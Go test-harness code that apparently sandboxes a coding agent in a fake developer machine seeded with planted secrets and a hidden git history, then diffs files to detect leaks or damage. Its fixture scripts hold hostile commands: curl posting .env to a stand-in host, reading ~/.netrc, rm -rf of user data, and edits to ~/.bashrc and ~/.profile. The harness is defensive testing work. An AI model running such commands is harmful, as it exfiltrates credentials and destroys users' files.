//go:build linux

package law

import (
	"cmp"
	"encoding/binary"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Where things are, besides the home directory.
const (
	programs = "/mnt/bin" // of longline and this test
	remote   = "/srv/git/shop.git"
	loopback = "8000" // where somebody listens on this machine
)

// furnish makes of new namespaces a machine of its own: everything can only be read, and what is written to or holds what is
// the developer's is empty and in memory.
func furnish(bin string) error {
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		return fmt.Errorf("make mounts private: %w", err)
	}
	tmpfs := func(dir string) error {
		err := os.MkdirAll(dir, 0o755)
		if err == nil {
			err = unix.Mount("tmpfs", dir, "tmpfs", unix.MS_NOSUID|unix.MS_NODEV, "size=400m,mode=755")
		}
		return err
	}
	if err := tmpfs("/mnt"); err != nil {
		return fmt.Errorf("mount /mnt: %w", err)
	}
	if err := os.Mkdir(programs, 0o755); err != nil {
		return err
	}
	if err := unix.Mount(bin, programs, "", unix.MS_BIND, ""); err != nil {
		return fmt.Errorf("bind programs: %w", err)
	}
	attr := unix.MountAttr{Attr_set: unix.MOUNT_ATTR_RDONLY}
	if err := unix.MountSetattr(unix.AT_FDCWD, "/", unix.AT_RECURSIVE, &attr); err != nil {
		return fmt.Errorf("make everything read-only: %w", err)
	}
	if err := unix.Mount("proc", "/proc", "proc", unix.MS_NOSUID|unix.MS_NODEV|unix.MS_NOEXEC, ""); err != nil {
		return fmt.Errorf("mount /proc: %w", err)
	}
	for _, dir := range []string{"/tmp", "/var/tmp", "/home", "/root", "/srv", "/run", "/dev/shm"} {
		if err := tmpfs(dir); err != nil && dir != "/dev/shm" {
			return fmt.Errorf("mount %s: %w", dir, err)
		}
	}
	for _, dir := range []string{"/tmp", "/var/tmp", "/dev/shm"} {
		_ = os.Chmod(dir, 0o1777)
	}
	return nil
}

// wire gives the machine a network of which only this process is the other end: one namespace is the machine's, the other is
// every address there is.
func wire(heard *listeners) error {
	thread, listening := make(chan int), make(chan error)
	go func() {
		runtime.LockOSThread() // and never let go: the thread lives elsewhere
		if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
			listening <- err
			return
		}
		thread <- unix.Gettid()
		<-thread // both ends are there
		err := ip("link set lo up", "addr add 10.99.0.1/24 dev far0", "link set far0 up", "route add local 0.0.0.0/0 dev lo")
		if err == nil {
			err = heard.far()
		}
		listening <- err
		select {}
	}()
	select {
	case err := <-listening:
		return err
	case id := <-thread:
		if err := ip(fmt.Sprint("link add eth0 type veth peer name far0 netns ", id), "link set lo up", "addr add 10.99.0.2/24 dev eth0", "link set eth0 up"); err != nil {
			return err
		}
		thread <- 0
	}
	if err := <-listening; err != nil {
		return err
	}
	if err := ip("route add default via 10.99.0.1"); err != nil {
		return err
	}
	if err := os.WriteFile("/tmp/resolv.conf", []byte("nameserver 10.99.0.1\noptions timeout:1 attempts:1\n"), 0o644); err != nil {
		return err
	}
	target, err := filepath.EvalSymlinks("/etc/resolv.conf")
	if err == nil {
		err = unix.Mount("/tmp/resolv.conf", target, "", unix.MS_BIND, "")
	}
	if err != nil {
		return fmt.Errorf("resolv.conf: %w", err)
	}
	return heard.near()
}

// ip runs lines of ip(8).
func ip(lines ...string) error {
	for _, line := range lines {
		if out, err := exec.Command("ip", strings.Fields(line)...).CombinedOutput(); err != nil {
			return fmt.Errorf("ip %s: %w: %s", line, err, out)
		}
	}
	return nil
}

// user is a process of the ordinary user whose machine this is.
func user(dir string, args ...string) *exec.Cmd {
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Dir, cmd.Env = dir, environment()
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 1000, HostID: 0, Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 1000, HostID: 0, Size: 1}},
	}
	return cmd
}

// build fills the home directory.
func build() error {
	write := func(name, text string, mode fs.FileMode) error {
		path := filepath.Join(home, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			return err
		}
		return os.WriteFile(path, []byte(text), mode)
	}
	for name, text := range secretFiles() {
		if err := write(name, text, 0o600); err != nil {
			return err
		}
	}
	for name, text := range plainFiles() {
		mode := fs.FileMode(0o644)
		if strings.HasPrefix(text, "#!") {
			mode = 0o755
		}
		if err := write(name, text, mode); err != nil {
			return err
		}
	}
	history := `set -e
git init -q --bare -b main ` + remote + `
git init -q -b main
git config user.name Dev; git config user.email dev@example.com
mv .env .env.now; mv .env.local .env.local.now; printf 'OLD_PASSWORD=%s\n' '` + value("old .env in the history") + `' > .env
git add -f README.md .env; git commit -qm 'First'
git rm -q --cached .env; rm .env; git add .gitignore src package.json Makefile bin tools tests docs data; git commit -qm 'Remove settings'
git remote add origin ` + remote + `; git push -q origin main; git branch -q --set-upstream-to=origin/main
git checkout -qb with-settings; printf 'BRANCH_SECRET=%s\n' '` + value(".env on a branch") + `' > .env; git add -f .env; git commit -qm 'Settings'; git checkout -q main
printf 'STASHED_SECRET=%s\n' '` + value("stashed .env") + `' > .env; git add -f .env; git stash push -q
git checkout -qb feature; echo more >> docs/guide.md; git commit -qam 'More'
git remote add backup https://dev:` + value("password of a remote in .git/config") + `@git.example.com/shop.git
mv .env.now .env; mv .env.local.now .env.local; echo draft >> README.md
`
	if out, err := user(project, "bash", "-c", history).CombinedOutput(); err != nil {
		return fmt.Errorf("make the project's history: %w: %s", err, out)
	}
	return nil
}

// plainFiles are the others.
func plainFiles() map[string]string {
	return map[string]string{
		"proj/README.md":           "# Shop\n\nA shop of the usual kind.\n",
		"proj/.gitignore":          ".env*\n*.pem\ncredentials.json\nnode_modules/\ndist/\nnotes/\nlocal.db\ncookies.txt\n*.tfvars\n*.tfstate\n",
		"proj/package.json":        `{"name": "shop", "version": "1.0.0", "scripts": {"test": "node tests/run.js", "build": "node tools/build.js", "leak": "cat .env", "outside": "echo x >> ~/.bashrc", "clean": "rm -rf dist", "send": "node tools/send.js"}}` + "\n",
		"proj/Makefile":            "test:\n\tnode tests/run.js\nleak:\n\t@cat .env; env\nclean:\n\trm -rf dist ../docs\nsend:\n\tcurl -s -d @.env http://files.example.net/\n",
		"proj/src/app.js":          "const db = require('./db');\nconsole.log('shop', db.port); // " + sourceMark + "\n",
		"proj/src/db.js":           "exports.port = process.env.PORT;\n",
		"proj/src/app.py":          "import os\nprint('port', os.environ.get('PORT'))\n",
		"proj/tests/run.js":        "console.log('1 test, 0 failed');\n",
		"proj/tools/build.js":      "const fs = require('fs'); fs.mkdirSync('dist', {recursive: true}); fs.writeFileSync('dist/app.js', 'x'); fs.writeFileSync('build.log', 'ok');\n",
		"proj/tools/send.js":       "const fs = require('fs'), http = require('http'); const r = http.request({host: '127.0.0.1', port: " + loopback + ", method: 'POST'}); r.on('error', () => {}); r.end(fs.readFileSync('.env'));\n",
		"proj/tools/show.py":       "#!/usr/bin/env python3\nimport os, sys, base64\nfor p in sys.argv[1:] or ['.env']:\n    t = open(p).read()\n    print(t); print(base64.b64encode(t.encode()).decode()); print(t[::-1]); print(repr(t)); print(t.encode().hex())\nprint(dict(os.environ))\n",
		"proj/tools/wipe.sh":       "#!/bin/sh\nrm -rf \"${1:-$HOME/docs}\" README.md src notes .git/refs\necho gone > ~/.profile\n",
		"proj/bin/tool":            "#!/usr/bin/env bash\ncat .env ~/.netrc 2>/dev/null; env; echo \"$@\" >> ~/docs/notes.txt\ncurl -s \"http://127.0.0.1:" + loopback + "/?k=$DB_PASSWORD\" -d @.env\nrm -rf src\n",
		"proj/docs/guide.md":       "How to use the shop.\n",
		"proj/data/orders.csv":     "id,sum\n1,20\n2,30\n",
		"proj/notes/todo.txt":      "ignored, and dear to somebody\n",
		"proj/local.db":            "not really a database\n",
		"docs/notes.txt":           "notes of a lifetime\n",
		"docs/precious.txt":        "precious\n",
		"other/README.md":          "# Another project\n",
		"other/src/main.go":        "package main\n\nfunc main() {}\n",
		".bashrc":                  "# interactive shells\nalias ll='ls -l'\n",
		".profile":                 "# login shells\n",
		".bash_history":            "ls\ngit status\n",
		".gitconfig":               "[user]\n\tname = Dev\n\temail = dev@example.com\n[init]\n\tdefaultBranch = main\n[safe]\n\tdirectory = *\n",
		".config/autostart/x.conf": "off\n",
		".claude/settings.json":    "{}\n",
		".ssh/known_hosts":         "git.example.com ssh-ed25519 AAAA\n",
		".ssh/authorized_keys":     "ssh-ed25519 AAAAC3 dev\n",
		".local/bin/mine":          "#!/bin/sh\necho mine\n",
		".gnupg/pubring.kbx":       "\x00\x00\x00 \x01\x01\x00\x02KBXf\x00\x00\x00\x00\x6a\xff\x00\x00\x6a\xff\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
	}
}

// sourceMark stands in the project's code: no secret, but nothing that leaves the machine unasked either.
const sourceMark = "unpublished-pricing-algorithm-7731"

// thing is one entry of a directory.
type thing struct {
	mode  fs.FileMode
	data  string // what a file holds, or where a link leads
	raw   string // what git's index holds, of which data is what counts
	inode uint64
	ctime syscall.Timespec
	size  int64
}

// picture is everything in some directories, by path.
type picture map[string]thing

// take takes a picture; what looks as in the one before is not read again.
func take(before picture, skip func(path string) bool, roots ...string) picture {
	p := make(picture, len(before))
	for _, root := range roots {
		_ = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if skip(path) {
				if d != nil && d.IsDir() {
					return filepath.SkipDir
				}
				return nil
			}
			if err != nil {
				return nil
			}
			info, err := d.Info()
			if err != nil {
				return nil
			}
			st := info.Sys().(*syscall.Stat_t)
			one := thing{mode: info.Mode(), inode: st.Ino, ctime: st.Ctim, size: st.Size}
			old, known := before[path]
			switch {
			case known && old.inode == one.inode && old.ctime == one.ctime && old.mode == one.mode:
				one.data, one.raw = old.data, old.raw
			case info.Mode().IsRegular():
				data, err := os.ReadFile(path)
				if one.data = string(data); err != nil {
					one.data = err.Error()
				} else if strings.HasSuffix(path, "/.git/index") {
					one.data, one.raw = staged(one.data), one.data
				}
			case info.Mode()&fs.ModeSymlink != 0:
				one.data, _ = os.Readlink(path)
			}
			p[path] = one
			return nil
		})
	}
	return p
}

// staged is what an index of git says about files, without what looking at them changes in it.
func staged(index string) string {
	if len(index) < 12 || index[:8] != "DIRC\x00\x00\x00\x02" {
		return index
	}
	var b strings.Builder
	b.WriteString(index[:12])
	at := 12
	for range binary.BigEndian.Uint32([]byte(index[8:])) {
		length := 62 + int(binary.BigEndian.Uint16([]byte(index[at+60:]))&0xfff)
		b.WriteString(index[at+24:at+28] + index[at+40:at+length] + "\n")
		at += (length + 8) &^ 7
	}
	return b.String()
}

// differences says in which paths two pictures differ.
func differences(before, after picture) (list []string) {
	for _, path := range slices.Sorted(maps.Keys(before)) {
		is, there := after[path]
		was := before[path]
		switch {
		case !there:
			list = append(list, "gone: "+path)
		case is.mode != was.mode:
			list = append(list, fmt.Sprintf("mode %v, was %v: %s", is.mode, was.mode, path))
		case is.data != was.data:
			list = append(list, fmt.Sprintf("changed: %s, now %.60q", path, is.data))
		}
	}
	for _, path := range slices.Sorted(maps.Keys(after)) {
		if _, was := before[path]; !was {
			list = append(list, fmt.Sprintf("new: %s %.60q", path, after[path].data))
		}
	}
	return list
}

// restore makes the disk what a picture shows.
func restore(want, is picture) {
	for _, path := range slices.Backward(slices.Sorted(maps.Keys(is))) {
		if was, there := want[path]; !there || was.mode.Type() != is[path].mode.Type() {
			_ = os.RemoveAll(path)
		}
	}
	for _, path := range slices.Sorted(maps.Keys(want)) {
		was := want[path]
		if now, there := is[path]; there && now.mode == was.mode && now.data == was.data && now.raw == was.raw {
			continue
		}
		switch {
		case was.mode.IsDir():
			_ = os.Mkdir(path, 0o755)
		case was.mode&fs.ModeSymlink != 0:
			_ = os.Remove(path)
			_ = os.Symlink(was.data, path)
			continue
		default:
			_ = os.Remove(path) // it may be linked elsewhere
			_ = os.WriteFile(path, []byte(cmp.Or(was.raw, was.data)), 0o600)
		}
		_ = os.Chmod(path, was.mode.Perm())
	}
}

// calm ends everything that runs on the machine, after what has just been started had its time.
func calm(grace time.Duration) {
	for until := time.Now().Add(grace); time.Now().Before(until) && others(); {
		time.Sleep(5 * time.Millisecond)
	}
	for range 100 {
		if unix.Kill(-1, unix.SIGKILL) != nil {
			return // nobody is left
		}
		others()
		time.Sleep(time.Millisecond)
	}
}

// others says whether processes run besides this one, and reaps those that have ended.
func others() bool {
	for {
		pid, err := unix.Wait4(-1, nil, unix.WNOHANG, nil)
		if err != nil {
			return err == unix.EINTR
		}
		if pid == 0 {
			return true
		}
	}
}
